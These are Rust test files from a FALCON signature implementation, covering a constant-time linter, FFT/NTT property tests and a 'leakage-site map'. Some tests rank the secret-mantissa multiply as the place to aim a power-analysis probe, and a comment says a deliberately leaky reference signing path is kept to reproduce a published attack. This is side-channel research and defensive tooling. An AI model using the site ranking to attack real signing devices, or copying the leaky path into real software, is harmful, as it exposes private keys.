    assert_eq!(rules_of("// ct: secert(x)\n"), vec![Rule::Annotation]);
    // Unbalanced end.
    assert_eq!(rules_of("// ct: end\n"), vec![Rule::Annotation]);
    // Region left open at EOF.
    assert_eq!(rules_of("// ct: secret(x)\nlet y = x;\n"), vec![Rule::Annotation]);
}

#[test]
fn debug_asserts_are_exempt() {
    let src = "// ct: secret(m)\ndebug_assert!(m == 0 || m > 7, \"bad\");\n// ct: end\n";
    assert_clean(src);
}

#[test]
fn checks_stop_at_region_end() {
    let src = "// ct: secret(x)\nlet y = x;\n// ct: end\nif y > 0 { }\n";
    assert_clean(src);
}

#[test]
fn doc_comment_directives_are_inert() {
    let src = "/// Example: `// ct: secret(x)` opens a region.\nfn f() {}\n";
    assert_clean(src);
}

#[test]
fn violations_carry_location_and_fingerprint() {
    let src = "// ct: secret(k)\nlet a = 1;\nif k > 0 { }\n// ct: end\n";
    let out = lint_source("crates/x/src/f.rs", src, &CallAllowlist::workspace_default());
    assert_eq!(out.violations.len(), 1);
    let v = &out.violations[0];
    assert_eq!((v.file.as_str(), v.line), ("crates/x/src/f.rs", 3));
    assert_eq!(v.fingerprint().len(), 16);
    assert_eq!(out.regions, 1);
    // Display is file:line: [rule] message.
    let shown = v.to_string();
    assert!(shown.starts_with("crates/x/src/f.rs:3: [secret-branch]"), "{shown}");
}
