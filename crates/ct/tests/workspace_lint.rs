//! Lints the actual workspace tree: `cargo test` enforces the same
//! zero-new-violations contract as the CI `ct-verify` job, so a
//! secret-dependent branch cannot land even without the binary running.

use falcon_ct::{lint_tree, Baseline, CallAllowlist};
use std::path::Path;

fn workspace_root() -> &'static Path {
    // crates/ct/ -> workspace root.
    Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap().parent().unwrap()
}

#[test]
fn workspace_has_no_new_violations() {
    let root = workspace_root();
    let outcome = lint_tree(root, &CallAllowlist::workspace_default()).expect("scan workspace");
    assert!(outcome.files > 50, "suspiciously few files scanned: {}", outcome.files);
    assert!(
        outcome.regions >= 15,
        "expected the fpr/falcon secret regions to be annotated, found {}",
        outcome.regions
    );
    let baseline = Baseline::load(&root.join("ct-baseline.jsonl")).expect("baseline parses");
    let new: Vec<String> = outcome
        .violations
        .iter()
        .filter(|v| !baseline.contains(v))
        .map(|v| v.to_string())
        .collect();
    assert!(new.is_empty(), "new constant-time violations:\n{}", new.join("\n"));
}

#[test]
fn baseline_is_empty_and_current() {
    // The tree's target state: no grandfathered violations at all. If a
    // violation ever has to be baselined, this test documents the
    // regression by failing until it is fixed or explicitly allowed
    // inline with `// ct: allow(reason)`.
    let baseline = Baseline::load(&workspace_root().join("ct-baseline.jsonl")).expect("parses");
    assert!(
        baseline.is_empty(),
        "ct-baseline.jsonl has {} grandfathered violation(s); fix them or document with ct: allow",
        baseline.len()
    );
}
