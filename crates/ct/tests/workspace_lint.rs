//! Lints the actual workspace tree: `cargo test` enforces the same
//! zero-new-violations contract as the CI `ct-verify` job, so a
//! secret-dependent branch cannot land even without the binary running.
//!
//! Since v2 this covers all three static passes — the `ct: secret`
//! region lint, the interprocedural taint pass and the
//! unsafe/determinism audits — merged exactly the way the `ct_lint`
//! binary merges them.

use falcon_ct::{lint_tree, Baseline, CallAllowlist, CallGraph, Rule, TaintMap, Violation};
use std::path::Path;

fn workspace_root() -> &'static Path {
    // crates/ct/ -> workspace root.
    Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap().parent().unwrap()
}

/// The merged three-pass violation list, mirroring `ct_lint`'s main.
fn merged_violations(root: &Path) -> Vec<Violation> {
    let allow = CallAllowlist::workspace_default();
    let mut violations = lint_tree(root, &allow).expect("scan workspace").violations;
    let graph = CallGraph::build(root).expect("build call graph");
    let taint = TaintMap::compute(&graph);
    violations.extend(falcon_ct::summary::taint_violations(&graph, &taint, &allow));
    violations.extend(falcon_ct::audit::audit_tree(root).expect("audit workspace"));
    violations.sort_by(|a, b| (&a.file, a.line, a.rule).cmp(&(&b.file, b.line, b.rule)));
    violations.dedup_by(|a, b| a.fingerprint() == b.fingerprint());
    violations
}

#[test]
fn workspace_has_no_new_violations() {
    let root = workspace_root();
    let outcome = lint_tree(root, &CallAllowlist::workspace_default()).expect("scan workspace");
    assert!(outcome.files > 50, "suspiciously few files scanned: {}", outcome.files);
    assert!(
        outcome.regions >= 15,
        "expected the fpr/falcon secret regions to be annotated, found {}",
        outcome.regions
    );
    let baseline = Baseline::load(&root.join("ct-baseline.jsonl")).expect("baseline parses");
    let new: Vec<String> = merged_violations(root)
        .iter()
        .filter(|v| !baseline.contains(v))
        .map(|v| v.to_string())
        .collect();
    assert!(new.is_empty(), "new constant-time violations:\n{}", new.join("\n"));
}

#[test]
fn baseline_is_nonempty_and_exactly_current() {
    // Every baselined fingerprint must still correspond to a live
    // violation (no stale entries), and every live violation must be
    // either baselined or absent — `--update-baseline` keeps the two
    // sides in lockstep. The baseline is deliberately non-empty: the
    // reference signing path reproduces the *leaky* implementation the
    // paper attacks, and its variable-time behaviour is documented
    // here rather than "fixed" away.
    let root = workspace_root();
    let baseline = Baseline::load(&root.join("ct-baseline.jsonl")).expect("parses");
    assert!(
        !baseline.is_empty(),
        "ct-baseline.jsonl is empty; the interprocedural pass should have documented the \
         reference implementation's variable-time surface"
    );
    let violations = merged_violations(root);
    let stale = baseline.stale(&violations);
    assert!(stale.is_empty(), "stale baseline entries (prune with --update-baseline): {stale:?}");
}

#[test]
fn interprocedural_pass_discovers_functions_outside_regions() {
    // The acceptance bar for the taint pass: it must keep *finding*
    // secret-handling functions the annotation discipline never marked,
    // not merely restate the 21 annotated regions.
    let root = workspace_root();
    let graph = CallGraph::build(root).expect("build call graph");
    let taint = TaintMap::compute(&graph);
    let outside = taint.tainted_outside_regions(&graph);
    assert!(
        outside.len() >= 10,
        "only {} tainted function(s) outside annotated regions: {outside:?}",
        outside.len()
    );
}

#[test]
fn workspace_has_no_unsafe_and_no_determinism_findings() {
    // The unsafe gate is enforced at zero: the workspace is
    // forbid(unsafe_code) today, and when the SIMD kernels land their
    // `unsafe` must sit in the allowlisted modules with `// SAFETY:`
    // comments — anything else fails here, unbaselined. Determinism
    // and atomics-ordering findings must likewise all be fixed or carry
    // `// ct: allow`.
    let root = workspace_root();
    let noisy: Vec<String> = merged_violations(root)
        .iter()
        .filter(|v| {
            matches!(
                v.rule,
                Rule::UnsafeAudit
                    | Rule::AtomicsOrder
                    | Rule::DetMapIter
                    | Rule::DetWallClock
                    | Rule::DetEnvRead
                    | Rule::DetThreadId
                    | Rule::DetFloatFold
            )
        })
        .map(|v| v.to_string())
        .collect();
    assert!(noisy.is_empty(), "unsafe/determinism findings:\n{}", noisy.join("\n"));
}
