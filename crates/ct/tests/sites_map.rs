//! The ranked leakage-site map over the *actual* workspace tree: the
//! static analysis must point at the paper's attack surface, not just
//! at fixtures.
//!
//! Two properties are load-bearing. First, the #1-ranked site must be
//! the secret-mantissa partial-product multiply inside
//! `Fpr::mul_observed` — that is the exact operation the DAC'21 CPA
//! keys on, so a map that ranks anything else above it would steer a
//! probe to the wrong place. Second, the static map must be a
//! *superset* of the dynamic checker: every one of `ct_dyn`'s 14
//! measured primitives must resolve to at least one statically tainted
//! function (the closed-loop contract — anything `ct_dyn` can measure,
//! `ct_sites` must have predicted).

use falcon_ct::dyncheck::PRIMITIVE_FNS;
use falcon_ct::sites::covers_primitive;
use falcon_ct::{CallGraph, SiteKind, SiteMap, TaintMap};
use std::path::Path;

fn workspace_root() -> &'static Path {
    // crates/ct/ -> workspace root.
    Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap().parent().unwrap()
}

fn workspace_sites() -> (CallGraph, TaintMap, SiteMap) {
    let root = workspace_root();
    let graph = CallGraph::build(root).expect("build call graph");
    let taint = TaintMap::compute(&graph);
    let sites = SiteMap::compute(&graph, &taint);
    (graph, taint, sites)
}

#[test]
fn top_ranked_site_is_the_mantissa_multiply() {
    let (_, _, sites) = workspace_sites();
    let top = sites.top().expect("workspace has leakage sites");
    assert_eq!(
        top.kind,
        SiteKind::MantissaMul,
        "expected the secret-mantissa multiply on top, got [{}] at {}:{}",
        top.kind,
        top.file,
        top.line
    );
    assert_eq!(
        top.file, "crates/fpr/src/mul.rs",
        "the paper's attack point lives in the fpr multiplier, not {}:{}",
        top.file, top.line
    );
    assert!(
        top.qual.contains("mul_observed"),
        "top site should be inside Fpr::mul_observed, got {}",
        top.qual
    );
    // All four partial-product lanes are present and lead the ranking
    // ahead of any generic secret multiply.
    let mantissa = sites.sites.iter().filter(|s| s.kind == SiteKind::MantissaMul).count();
    assert!(mantissa >= 4, "expected all four partial-product lanes, found {mantissa}");
    let first_other =
        sites.sites.iter().position(|s| s.kind != SiteKind::MantissaMul).unwrap_or(usize::MAX);
    assert!(
        sites.sites[..first_other.min(sites.sites.len())]
            .iter()
            .all(|s| s.kind == SiteKind::MantissaMul),
        "a non-mantissa site interleaved into the mantissa block"
    );
}

#[test]
fn static_map_covers_every_dynamic_primitive() {
    // Superset property: the 14 primitives `ct_dyn` exercises under the
    // instruction-trace harness must all appear in the static map's
    // coverage — a dynamic leak with no static prediction would mean
    // the taint pass has a hole.
    let (graph, taint, _) = workspace_sites();
    let missing: Vec<&str> = PRIMITIVE_FNS
        .iter()
        .filter(|(_, fns)| !covers_primitive(&graph, &taint, fns))
        .map(|(name, _)| *name)
        .collect();
    assert!(missing.is_empty(), "ct_dyn primitives with no statically predicted site: {missing:?}");
    assert_eq!(PRIMITIVE_FNS.len(), 14, "primitive registry drifted from ct_dyn");
}

#[test]
fn map_finds_sites_across_the_workspace() {
    // The pass scans every tainted function, not only annotated ones;
    // the fpr emulation alone contributes branches, indexes, div/mod
    // and the variable-latency loops.
    let (_, _, sites) = workspace_sites();
    assert!(sites.scanned.len() >= 20, "only {} functions scanned", sites.scanned.len());
    assert!(sites.sites.len() >= 30, "only {} sites found", sites.sites.len());
    for kind in [
        SiteKind::MantissaMul,
        SiteKind::SecretMul,
        SiteKind::VarLatencyLoop,
        SiteKind::DivMod,
        SiteKind::Branch,
    ] {
        assert!(
            sites.sites.iter().any(|s| s.kind == kind),
            "no [{kind}] site anywhere in the workspace"
        );
    }
    // Scores are monotonically non-increasing down the ranking.
    assert!(sites.sites.windows(2).all(|w| w[0].score >= w[1].score));
}

#[test]
fn amplitude_sites_lead_timing_sites_in_the_real_tree() {
    // The emsim leakage model is amplitude-based (HW/HD), so the map
    // must put every power-model site above every purely timing-model
    // site — a CPA budget spent on a branch site is wasted.
    let (_, _, sites) = workspace_sites();
    let last_amplitude = sites
        .sites
        .iter()
        .rposition(|s| matches!(s.kind, SiteKind::MantissaMul | SiteKind::SecretMul))
        .expect("amplitude sites exist");
    let first_timing =
        sites.sites.iter().position(|s| s.kind == SiteKind::Branch).expect("timing sites exist");
    assert!(
        last_amplitude < first_timing,
        "timing site ranked above an amplitude site (#{} vs #{})",
        first_timing + 1,
        last_amplitude + 1
    );
}
