//! Property-based tests for the FALCON substrates.
//!
//! The properties are exercised over deterministic seeded case streams
//! (the build environment has no network access for an external
//! property-testing harness; a splitmix64 generator stands in).

use falcon_fpr::Fpr;
use falcon_sig::codec::{compress, decompress};
use falcon_sig::fft::{fft, ifft, poly_add, poly_mul_fft};
use falcon_sig::ntt::{mq_add, mq_mul, NttTables};
use falcon_sig::params::Q;
use falcon_sig::zint::Zint;

fn splitmix(state: &mut u64) -> u64 {
    *state = state.wrapping_add(0x9E37_79B9_7F4A_7C15);
    let mut z = *state;
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// Uniform value in `[lo, hi]` (inclusive).
fn in_range(state: &mut u64, lo: i64, hi: i64) -> i64 {
    let span = (hi - lo) as u64 + 1;
    lo + (splitmix(state) % span) as i64
}

const CASES: usize = 256;

// ---------------- zint vs i128 oracle ----------------

#[test]
fn zint_ring_ops_match_i128() {
    let mut st = 0x7A696E74u64;
    for _ in 0..CASES {
        let a = splitmix(&mut st) as i64;
        let b = splitmix(&mut st) as i64;
        let sh = (splitmix(&mut st) % 80) as u32;
        let (za, zb) = (Zint::from_i64(a), Zint::from_i64(b));
        assert_eq!(za.add(&zb).to_i64(), a.checked_add(b));
        assert_eq!(za.sub(&zb).to_i64(), a.checked_sub(b));
        let p = (a as i128) * (b as i128);
        if let Ok(p64) = i64::try_from(p) {
            assert_eq!(za.mul(&zb).to_i64(), Some(p64));
        }
        // shl/shr inverse on magnitudes.
        assert_eq!(za.shl(sh).shr(sh).to_i64(), Some(a));
    }
}

#[test]
fn zint_divmod_invariant() {
    let mut st = 0x64697621u64;
    for _ in 0..CASES {
        let a = (splitmix(&mut st) as i64).unsigned_abs() as i64 & i64::MAX;
        let b = 1 + ((splitmix(&mut st) as i64).unsigned_abs() as i64 & (i64::MAX - 1));
        let (q, r) = Zint::from_i64(a).divmod(&Zint::from_i64(b));
        assert_eq!(q.to_i64(), Some(a / b), "a={a} b={b}");
        assert_eq!(r.to_i64(), Some(a % b), "a={a} b={b}");
    }
}

#[test]
fn zint_xgcd_bezout_holds() {
    let mut st = 0x78676364u64;
    for _ in 0..CASES {
        let a = in_range(&mut st, 0, 999_999);
        let b = in_range(&mut st, 0, 999_999);
        let (g, u, v) = Zint::xgcd(&Zint::from_i64(a), &Zint::from_i64(b));
        let lhs = Zint::from_i64(a).mul(&u).add(&Zint::from_i64(b).mul(&v));
        assert_eq!(lhs, g, "a={a} b={b}");
    }
}

// ---------------- signature codec ----------------

#[test]
fn codec_roundtrips_any_valid_vector() {
    let mut st = 0x636F6465u64;
    for _ in 0..CASES {
        let len = in_range(&mut st, 1, 127) as usize;
        let s: Vec<i16> = (0..len).map(|_| in_range(&mut st, -2047, 2047) as i16).collect();
        let budget = 2 * s.len() + 32;
        let bytes = compress(&s, budget).expect("generous budget");
        assert_eq!(bytes.len(), budget);
        assert_eq!(decompress(&bytes, s.len()), Some(s));
    }
}

#[test]
fn codec_rejects_bitflips_or_preserves_values() {
    let mut st = 0x666C6970u64;
    for _ in 0..CASES {
        let len = in_range(&mut st, 4, 31) as usize;
        let s: Vec<i16> = (0..len).map(|_| in_range(&mut st, -400, 400) as i16).collect();
        let budget = 2 * s.len() + 8;
        let mut bytes = compress(&s, budget).expect("fits");
        let idx = (splitmix(&mut st) as usize) % bytes.len();
        let bit = (splitmix(&mut st) % 8) as u8;
        bytes[idx] ^= 1 << bit;
        // A flipped encoding either fails to parse or parses to some
        // other vector — but never panics.
        let _ = decompress(&bytes, s.len());
    }
}

// ---------------- FFT algebra ----------------

#[test]
fn fft_is_linear() {
    let mut st = 0x6C696E65u64;
    for _ in 0..CASES {
        let a: Vec<i64> = (0..8).map(|_| in_range(&mut st, -100, 100)).collect();
        let b: Vec<i64> = (0..8).map(|_| in_range(&mut st, -100, 100)).collect();
        let fa: Vec<Fpr> = a.iter().map(|&v| Fpr::from_i64(v)).collect();
        let fb: Vec<Fpr> = b.iter().map(|&v| Fpr::from_i64(v)).collect();
        let mut sum: Vec<Fpr> = fa.iter().zip(&fb).map(|(x, y)| *x + *y).collect();
        fft(&mut sum);
        let mut ta = fa.clone();
        let mut tb = fb.clone();
        fft(&mut ta);
        fft(&mut tb);
        poly_add(&mut ta, &tb);
        for (x, y) in sum.iter().zip(&ta) {
            assert!((x.to_f64() - y.to_f64()).abs() < 1e-9);
        }
    }
}

#[test]
fn fft_convolution_is_commutative() {
    let mut st = 0x636F6E76u64;
    for _ in 0..CASES {
        let a: Vec<i64> = (0..16).map(|_| in_range(&mut st, -50, 50)).collect();
        let b: Vec<i64> = (0..16).map(|_| in_range(&mut st, -50, 50)).collect();
        let mut fa: Vec<Fpr> = a.iter().map(|&v| Fpr::from_i64(v)).collect();
        let mut fb: Vec<Fpr> = b.iter().map(|&v| Fpr::from_i64(v)).collect();
        fft(&mut fa);
        fft(&mut fb);
        let mut ab = fa.clone();
        poly_mul_fft(&mut ab, &fb);
        let mut ba = fb.clone();
        poly_mul_fft(&mut ba, &fa);
        ifft(&mut ab);
        ifft(&mut ba);
        for (x, y) in ab.iter().zip(&ba) {
            assert!((x.to_f64() - y.to_f64()).abs() < 1e-7);
        }
    }
}

#[test]
fn fft_parseval() {
    let mut st = 0x70617273u64;
    for _ in 0..CASES {
        let coeffs: Vec<i64> = (0..32).map(|_| in_range(&mut st, -100, 100)).collect();
        let mut f: Vec<Fpr> = coeffs.iter().map(|&v| Fpr::from_i64(v)).collect();
        let time_norm: f64 = coeffs.iter().map(|&v| (v * v) as f64).sum();
        fft(&mut f);
        let hn = f.len() / 2;
        let freq_norm: f64 = (0..hn)
            .map(|j| {
                let re = f[j].to_f64();
                let im = f[j + hn].to_f64();
                re * re + im * im
            })
            .sum::<f64>()
            * 2.0
            / f.len() as f64;
        assert!((time_norm - freq_norm).abs() < 1e-6 * (1.0 + time_norm));
    }
}

// ---------------- NTT algebra ----------------

#[test]
fn ntt_is_additive_homomorphism() {
    let mut st = 0x6E747461u64;
    let t = NttTables::new(4);
    for _ in 0..CASES {
        let a: Vec<u32> = (0..16).map(|_| splitmix(&mut st) as u32 % Q).collect();
        let b: Vec<u32> = (0..16).map(|_| splitmix(&mut st) as u32 % Q).collect();
        let mut sum: Vec<u32> = a.iter().zip(&b).map(|(&x, &y)| mq_add(x, y)).collect();
        t.ntt(&mut sum);
        let mut ta = a.clone();
        let mut tb = b.clone();
        t.ntt(&mut ta);
        t.ntt(&mut tb);
        let want: Vec<u32> = ta.iter().zip(&tb).map(|(&x, &y)| mq_add(x, y)).collect();
        assert_eq!(sum, want);
    }
}

#[test]
fn ntt_pointwise_is_ring_multiplication() {
    let mut st = 0x6E74746Du64;
    let t = NttTables::new(3);
    for _ in 0..CASES {
        // Multiplying by the constant polynomial c scales every
        // coefficient by c.
        let a: Vec<u32> = (0..8).map(|_| splitmix(&mut st) as u32 % Q).collect();
        let c = splitmix(&mut st) as u32 % Q;
        let mut cp = vec![0u32; 8];
        cp[0] = c;
        let prod = t.poly_mul(&a, &cp);
        let want: Vec<u32> = a.iter().map(|&x| mq_mul(x, c)).collect();
        assert_eq!(prod, want);
    }
}

// ---------------- fpr/f64 interop on FALCON's value range ----------

#[test]
fn fpr_fma_chain_matches_f64() {
    let mut st = 0x666D6163u64;
    for _ in 0..CASES {
        // An accumulation chain like the FFT butterflies.
        let len = in_range(&mut st, 2, 19) as usize;
        let vals: Vec<f64> = (0..len)
            .map(|_| {
                let u = (splitmix(&mut st) >> 11) as f64 / (1u64 << 53) as f64;
                (2.0 * u - 1.0) * 1.0e6
            })
            .collect();
        let mut acc_fpr = Fpr::ZERO;
        let mut acc_f64 = 0f64;
        for (i, &v) in vals.iter().enumerate() {
            let w = Fpr::from(v);
            if i % 2 == 0 {
                acc_fpr += w * w;
                acc_f64 += v * v;
            } else {
                acc_fpr -= w * Fpr::from(0.5);
                acc_f64 -= v * 0.5;
            }
        }
        assert_eq!(acc_fpr.to_bits(), acc_f64.to_bits());
    }
}
