//! Property-based tests for the FALCON substrates.

use falcon_sig::codec::{compress, decompress};
use falcon_sig::fft::{fft, ifft, poly_add, poly_mul_fft};
use falcon_sig::ntt::{mq_add, mq_mul, NttTables};
use falcon_sig::params::Q;
use falcon_sig::zint::Zint;
use falcon_fpr::Fpr;
use proptest::prelude::*;

proptest! {
    // ---------------- zint vs i128 oracle ----------------

    #[test]
    fn zint_ring_ops_match_i128(a in any::<i64>(), b in any::<i64>(), sh in 0u32..80) {
        let (za, zb) = (Zint::from_i64(a), Zint::from_i64(b));
        prop_assert_eq!(za.add(&zb).to_i64(), a.checked_add(b));
        prop_assert_eq!(za.sub(&zb).to_i64(), a.checked_sub(b));
        let p = (a as i128) * (b as i128);
        if let Ok(p64) = i64::try_from(p) {
            prop_assert_eq!(za.mul(&zb).to_i64(), Some(p64));
        }
        // shl/shr inverse on magnitudes.
        prop_assert_eq!(za.shl(sh).shr(sh).to_i64(), Some(a));
    }

    #[test]
    fn zint_divmod_invariant(a in 0i64..i64::MAX, b in 1i64..i64::MAX) {
        let (q, r) = Zint::from_i64(a).divmod(&Zint::from_i64(b));
        prop_assert_eq!(q.to_i64(), Some(a / b));
        prop_assert_eq!(r.to_i64(), Some(a % b));
    }

    #[test]
    fn zint_xgcd_bezout_holds(a in 0i64..1_000_000, b in 0i64..1_000_000) {
        let (g, u, v) = Zint::xgcd(&Zint::from_i64(a), &Zint::from_i64(b));
        let lhs = Zint::from_i64(a).mul(&u).add(&Zint::from_i64(b).mul(&v));
        prop_assert_eq!(lhs, g);
    }

    // ---------------- signature codec ----------------

    #[test]
    fn codec_roundtrips_any_valid_vector(s in prop::collection::vec(-2047i16..=2047, 1..128)) {
        let budget = 2 * s.len() + 32;
        let bytes = compress(&s, budget).expect("generous budget");
        prop_assert_eq!(bytes.len(), budget);
        prop_assert_eq!(decompress(&bytes, s.len()), Some(s));
    }

    #[test]
    fn codec_rejects_bitflips_or_preserves_values(
        s in prop::collection::vec(-400i16..=400, 4..32),
        flip_byte in 0usize..16,
        flip_bit in 0u8..8,
    ) {
        let budget = 2 * s.len() + 8;
        let mut bytes = compress(&s, budget).expect("fits");
        let idx = flip_byte % bytes.len();
        bytes[idx] ^= 1 << flip_bit;
        // A flipped encoding either fails to parse or parses to some
        // other vector — but never panics.
        let _ = decompress(&bytes, s.len());
    }

    // ---------------- FFT algebra ----------------

    #[test]
    fn fft_is_linear(
        a in prop::collection::vec(-100i64..=100, 8usize..=8),
        b in prop::collection::vec(-100i64..=100, 8usize..=8),
    ) {
        let fa: Vec<Fpr> = a.iter().map(|&v| Fpr::from_i64(v)).collect();
        let fb: Vec<Fpr> = b.iter().map(|&v| Fpr::from_i64(v)).collect();
        let mut sum: Vec<Fpr> = fa.iter().zip(&fb).map(|(x, y)| *x + *y).collect();
        fft(&mut sum);
        let mut ta = fa.clone();
        let mut tb = fb.clone();
        fft(&mut ta);
        fft(&mut tb);
        poly_add(&mut ta, &tb);
        for (x, y) in sum.iter().zip(&ta) {
            prop_assert!((x.to_f64() - y.to_f64()).abs() < 1e-9);
        }
    }

    #[test]
    fn fft_convolution_is_commutative(
        a in prop::collection::vec(-50i64..=50, 16usize..=16),
        b in prop::collection::vec(-50i64..=50, 16usize..=16),
    ) {
        let mut fa: Vec<Fpr> = a.iter().map(|&v| Fpr::from_i64(v)).collect();
        let mut fb: Vec<Fpr> = b.iter().map(|&v| Fpr::from_i64(v)).collect();
        fft(&mut fa);
        fft(&mut fb);
        let mut ab = fa.clone();
        poly_mul_fft(&mut ab, &fb);
        let mut ba = fb.clone();
        poly_mul_fft(&mut ba, &fa);
        ifft(&mut ab);
        ifft(&mut ba);
        for (x, y) in ab.iter().zip(&ba) {
            prop_assert!((x.to_f64() - y.to_f64()).abs() < 1e-7);
        }
    }

    #[test]
    fn fft_parseval(coeffs in prop::collection::vec(-100i64..=100, 32usize..=32)) {
        let mut f: Vec<Fpr> = coeffs.iter().map(|&v| Fpr::from_i64(v)).collect();
        let time_norm: f64 = coeffs.iter().map(|&v| (v * v) as f64).sum();
        fft(&mut f);
        let hn = f.len() / 2;
        let freq_norm: f64 = (0..hn)
            .map(|j| {
                let re = f[j].to_f64();
                let im = f[j + hn].to_f64();
                re * re + im * im
            })
            .sum::<f64>() * 2.0 / f.len() as f64;
        prop_assert!((time_norm - freq_norm).abs() < 1e-6 * (1.0 + time_norm));
    }

    // ---------------- NTT algebra ----------------

    #[test]
    fn ntt_is_additive_homomorphism(
        a in prop::collection::vec(0u32..Q, 16usize..=16),
        b in prop::collection::vec(0u32..Q, 16usize..=16),
    ) {
        let t = NttTables::new(4);
        let mut sum: Vec<u32> = a.iter().zip(&b).map(|(&x, &y)| mq_add(x, y)).collect();
        t.ntt(&mut sum);
        let mut ta = a.clone();
        let mut tb = b.clone();
        t.ntt(&mut ta);
        t.ntt(&mut tb);
        let want: Vec<u32> = ta.iter().zip(&tb).map(|(&x, &y)| mq_add(x, y)).collect();
        prop_assert_eq!(sum, want);
    }

    #[test]
    fn ntt_pointwise_is_ring_multiplication(
        a in prop::collection::vec(0u32..Q, 8usize..=8),
        c in 0u32..Q,
    ) {
        // Multiplying by the constant polynomial c scales every
        // coefficient by c.
        let t = NttTables::new(3);
        let mut cp = vec![0u32; 8];
        cp[0] = c;
        let prod = t.poly_mul(&a, &cp);
        let want: Vec<u32> = a.iter().map(|&x| mq_mul(x, c)).collect();
        prop_assert_eq!(prod, want);
    }

    // ---------------- fpr/f64 interop on FALCON's value range ----------

    #[test]
    fn fpr_fma_chain_matches_f64(vals in prop::collection::vec(-1.0e6f64..1.0e6, 2..20)) {
        // An accumulation chain like the FFT butterflies.
        let mut acc_fpr = Fpr::ZERO;
        let mut acc_f64 = 0f64;
        for (i, &v) in vals.iter().enumerate() {
            let w = Fpr::from(v);
            if i % 2 == 0 {
                acc_fpr += w * w;
                acc_f64 += v * v;
            } else {
                acc_fpr -= w * Fpr::from(0.5);
                acc_f64 -= v * 0.5;
            }
        }
        prop_assert_eq!(acc_fpr.to_bits(), acc_f64.to_bits());
    }
}
