//! Differential validation of the FFT against a naive O(n²) DFT.
//!
//! The negacyclic FFT stores, in slot `j`, the polynomial's value at
//! `ζ_j = exp(iπ(2j+1)/n)` — the `n/2` roots of `x^n + 1` with positive
//! imaginary part. A direct evaluation of that definition in host `f64`
//! arithmetic is slow but obviously correct, which makes it the
//! reference the butterfly implementation (and the emulated arithmetic
//! underneath it) is checked against here, at every degree the attack
//! pipeline uses in tests.

use falcon_fpr::Fpr;
use falcon_sig::fft::{at, fft, ifft};

/// Deterministic splitmix64 stream (same idiom as the crate's property
/// tests; no external generator in the offline build).
fn splitmix(state: &mut u64) -> u64 {
    *state = state.wrapping_add(0x9E37_79B9_7F4A_7C15);
    let mut z = *state;
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// Naive evaluation of the real polynomial `coeffs` at
/// `exp(iπ(2j+1)/n)` for every `j < n/2`: `(re, im)` pairs.
fn naive_dft(coeffs: &[f64]) -> Vec<(f64, f64)> {
    let n = coeffs.len();
    (0..n / 2)
        .map(|j| {
            let mut re = 0f64;
            let mut im = 0f64;
            for (k, &c) in coeffs.iter().enumerate() {
                let ang = core::f64::consts::PI * (k * (2 * j + 1)) as f64 / n as f64;
                re += c * ang.cos();
                im += c * ang.sin();
            }
            (re, im)
        })
        .collect()
}

fn close(got: f64, want: f64, scale: f64, ctx: &str) {
    assert!(
        (got - want).abs() <= 1e-9 * (1.0 + scale),
        "{ctx}: got {got}, want {want} (scale {scale})"
    );
}

#[test]
fn fft_matches_naive_dft() {
    let mut st = 0x0064_6674_5F72_6566_u64; // "dft_ref"
    for logn in 3u32..=6 {
        let n = 1usize << logn;
        for case in 0..8 {
            // Mixed coefficient shapes: small signed integers (FALCON
            // key range) and non-integer values with varied magnitudes.
            let coeffs: Vec<f64> = (0..n)
                .map(|_| {
                    let r = splitmix(&mut st);
                    if case % 2 == 0 {
                        ((r % 257) as f64) - 128.0
                    } else {
                        let u = (r >> 11) as f64 / (1u64 << 53) as f64;
                        (2.0 * u - 1.0) * 100.0
                    }
                })
                .collect();
            let want = naive_dft(&coeffs);
            // The DFT magnitudes bound the roundoff scale.
            let scale = coeffs.iter().map(|c| c.abs()).sum::<f64>();
            let mut v: Vec<Fpr> = coeffs.iter().map(|&c| Fpr::from(c)).collect();
            fft(&mut v);
            for (j, &(re, im)) in want.iter().enumerate() {
                let got = at(&v, j);
                close(got.re.to_f64(), re, scale, &format!("logn={logn} case={case} re[{j}]"));
                close(got.im.to_f64(), im, scale, &format!("logn={logn} case={case} im[{j}]"));
            }
        }
    }
}

#[test]
fn ifft_of_fft_is_identity() {
    let mut st = 0x0069_6666_745F_6964_u64; // "ifft_id"
    for logn in 3u32..=6 {
        let n = 1usize << logn;
        let coeffs: Vec<f64> = (0..n)
            .map(|_| {
                let u = (splitmix(&mut st) >> 11) as f64 / (1u64 << 53) as f64;
                (2.0 * u - 1.0) * 1000.0
            })
            .collect();
        let mut v: Vec<Fpr> = coeffs.iter().map(|&c| Fpr::from(c)).collect();
        fft(&mut v);
        ifft(&mut v);
        for (i, (&got, &want)) in v.iter().zip(&coeffs).enumerate() {
            close(got.to_f64(), want, want.abs(), &format!("logn={logn} roundtrip[{i}]"));
        }
    }
}

#[test]
fn fft_of_monomial_is_the_root_powers() {
    // FFT(x^k) must be exactly ζ_j^k — a closed form that exercises
    // every root of the table independently of the generator above.
    for logn in 3u32..=6 {
        let n = 1usize << logn;
        for k in [1usize, 2, n - 1] {
            let mut v = vec![Fpr::ZERO; n];
            v[k] = Fpr::from(1.0);
            fft(&mut v);
            for j in 0..n / 2 {
                let ang = core::f64::consts::PI * (k * (2 * j + 1)) as f64 / n as f64;
                let got = at(&v, j);
                close(got.re.to_f64(), ang.cos(), 1.0, &format!("logn={logn} k={k} re[{j}]"));
                close(got.im.to_f64(), ang.sin(), 1.0, &format!("logn={logn} k={k} im[{j}]"));
            }
        }
    }
}
