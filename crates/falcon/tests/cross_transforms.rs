//! Cross-consistency of the two transform stacks.
//!
//! The floating-point FFT (signing path) and the integer NTT
//! (verification path) implement the same ring `Z[x]/(x^n + 1)`; products
//! computed through either must agree. This is the algebraic glue that
//! makes a signature produced through `fpr` arithmetic verify through
//! modular arithmetic.

use falcon_fpr::Fpr;
use falcon_sig::fft::{fft, ifft, poly_mul_fft};
use falcon_sig::ntt::{mq_from_signed, mq_to_signed, NttTables};
use falcon_sig::rng::Prng;
use falcon_sig::{KeyPair, LogN};

